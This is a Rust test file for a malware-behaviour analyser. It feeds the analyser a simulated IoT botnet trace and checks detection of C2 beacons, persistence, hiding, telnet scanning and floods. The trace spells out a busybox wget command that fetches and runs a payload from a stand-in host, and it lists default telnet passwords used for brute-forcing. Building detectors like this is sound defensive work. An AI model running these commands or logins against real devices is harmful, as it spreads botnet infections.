//! A bot that does everything: loads a second stage, hides, stays, reports, scans, floods.

use super::make::{Maker, SAMPLE};
use crate::{RuleSet, Seen, alike, contents, likeness, report, text};
use ukai_model::{Behaviour, Class, Contact, Ended, FindingKind, Sha256};
use ukai_trace::What;

fn bot(seed: u128, c2: &str) -> Seen {
    let mut maker = Maker::new(seed);
    maker.start("mips", "/tmp/bot");
    maker.tell(7, 5, What::Open { path: b"/proc/cpuinfo".to_vec(), flags: 0, error: 0 });
    maker.tell(7, 6, What::Name { name: b"[kworker/0:1]".to_vec() });
    maker.tell(7, 8, What::Delete { path: b"/tmp/bot".to_vec() });
    maker.tell(7, 9, What::Fork { child: 8, thread: false });
    maker.execute(8, 7, 10, "/bin/busybox wget http://load.example.org/bins/b.mips -O /tmp/.b");
    maker.name(20, "load.example.org", "20.5.5.5");
    maker.connect(8, 25, "20.5.5.5", 80, 6);
    maker.http(30, ("20.5.5.5", 80), "GET", "load.example.org", "/bins/b.mips", "Wget");
    maker.write(8, 40, "/tmp/.b", 9_000);
    maker.tell(8, 41, What::Mode { path: b"/tmp/.b".to_vec(), mode: 0o755 });
    maker.exit(8, 50, 0);
    maker.tell(7, 55, What::Fork { child: 9, thread: false });
    maker.execute(9, 7, 60, "/tmp/.b telnet");
    maker.write(9, 70, "/etc/cron.d/update", 60);
    maker.tell(9, 75, What::Kill { target: 400, name: b"dvrHelper".to_vec(), signal: 9 });
    for n in 0..12 {
        maker.connect(9, 100 + n * 4_000, c2, 48_101, 6);
        maker.payload(100 + n * 4_000, c2, 48_101, b"\x00\x00\x00\x01BOT\"1");
    }
    for n in 1..40 {
        let target = format!("198.51.100.{n}");
        maker.connect(9, 300 + n, &target, 23, 6);
        maker.login(300 + n, &target, 23, "root", ["xc3511", "vizxv", "admin"][n as usize % 3]);
    }
    maker.scan(10_000, 23, 4_000);
    maker.flood(30_000, "udp", "203.0.113.7", 53, 90_000);
    maker.file(50_000, "/tmp/.b", b"\x7fELF the second stage");
    maker.seen(Ended::TimeUsed)
}

fn contact(report: &Behaviour, class: Class) -> &Contact {
    let found = report.contacts.iter().find(|contact| contact.class == class);
    found.unwrap_or_else(|| panic!("{class:?} in {:#?}", report.contacts))
}

#[test]
fn everything_that_a_bot_did_is_told_with_its_role() {
    let seen = bot(1, "198.18.7.7");
    let report = report(&SAMPLE, std::slice::from_ref(&seen), RuleSet::built_in());
    let server = contact(&report, Class::C2);
    assert_eq!((server.port, server.conversations), (48_101, 12));
    assert_eq!(server.addresses[0].to_string(), "198.18.7.7");
    assert_eq!(server.processes[0].pid, 9);
    assert_eq!(server.processes[0].path.to_string(), "/tmp/.b");
    let loader = contact(&report, Class::Distribution);
    assert_eq!(
        (loader.name.to_string().as_str(), loader.processes[0].pid),
        ("load.example.org", 8)
    );
    assert!(loader.confidence >= 90, "{loader:?}");
    assert!(loader.reasons[0].contains("wrote /tmp/.b, which was started"), "{loader:?}");
    let listed = report.contacts.iter().filter(|c| c.class == Class::ScanTarget).count();
    assert_eq!(listed, 8);
    let scan = report.attacks.iter().find(|a| a.traffic == "scan").expect("a scan");
    assert_eq!((scan.talked_to, scan.logins.len()), (39, 3));
    let kinds: Vec<_> = report.findings.iter().map(|f| (f.kind, f.how.as_str())).collect();
    for expected in [
        (FindingKind::Persistence, "cron"),
        (FindingKind::Hiding, "self-deletion"),
        (FindingKind::Hiding, "process-name"),
        (FindingKind::Hiding, "hidden-file"),
        (FindingKind::Interference, "processes-killed"),
    ] {
        assert!(kinds.contains(&expected), "{expected:?} in {kinds:?}");
    }
    let rules: Vec<&str> = report.matches.iter().map(|m| m.rule.as_str()).collect();
    for expected in [
        "persistence-cron",
        "self-deletion",
        "process-name-of-system",
        "download-and-run",
        "shell-loader",
        "kills-others",
        "scan-telnet",
        "default-passwords",
        "flood-udp",
        "c2-beacon",
        "c2-raw",
    ] {
        assert!(rules.contains(&expected), "{expected} in {rules:?}");
    }
    let drops = contents(&seen);
    assert_eq!(drops.len(), 1);
    assert_eq!(drops[0].sha256, Sha256::of(b"\x7fELF the second stage"));
    assert_eq!(report.drops[0].sha256, drops[0].sha256);
    // Everything points to what it rests on.
    assert!(report.contacts.iter().all(|contact| !contact.proofs.is_empty()));
    assert!(report.findings.iter().all(|finding| !finding.proofs.is_empty()));
    assert!(report.files.iter().all(|file| !file.proofs.is_empty()));
    assert!(report.matches.iter().all(|found| !found.proofs.is_empty()));
    assert!(server.proofs.iter().any(|proof| proof.event.is_some() && proof.pid == Some(9)));
    let process = |pid: u32| report.processes.iter().find(|p| p.pid == pid).expect("a process");
    assert_eq!((process(8).parent, process(9).parent), (Some(7), Some(7)));
    assert_eq!(process(8).exit.as_deref(), Some("exit 0"));
    let json = serde_json::to_string(&report).expect("serialises");
    assert_eq!(serde_json::from_str::<Behaviour>(&json).expect("reads back"), report);
}

#[test]
fn the_text_reads_as_it_did() {
    let report = report(&SAMPLE, &[bot(1, "198.18.7.7")], RuleSet::built_in());
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/tests/bot.txt");
    let told = text(&report);
    if std::env::var_os("UPDATE_EXPECT").is_some() {
        std::fs::write(&path, &told).expect("written");
    }
    let expected = std::fs::read_to_string(&path).expect("UPDATE_EXPECT=1 writes it");
    assert!(told == expected, "it reads differently:\n{told}");
}

#[test]
fn bots_that_talk_alike_are_found() {
    let of = |seen| report(&SAMPLE, &[seen], RuleSet::built_in()).fingerprint;
    let (one, two) = (of(bot(1, "198.18.7.7")), of(bot(2, "198.18.99.1")));
    let mut maker = Maker::new(3);
    maker.start("x86_64", "/tmp/other");
    for n in 0..5 {
        maker.name(10, &format!("a{n}.example.net"), &format!("20.1.1.{n}"));
        maker.irc(20, &format!("20.1.1.{n}"), 6_667, "#a");
    }
    let other = of(maker.seen(Ended::TimeUsed));
    let percent = likeness(&one, &two).expect("comparable");
    assert!((60..100).contains(&percent), "{percent}\n{one:#?}\n{two:#?}");
    assert!(likeness(&one, &other).expect("comparable") < 20);
    let (a, b) = (Sha256::of(b"a"), Sha256::of(b"b"));
    let found = alike(&one, [(a, &other), (b, &two)]);
    assert_eq!(found.iter().map(|alike| alike.sha256).collect::<Vec<_>>(), [b]);
}
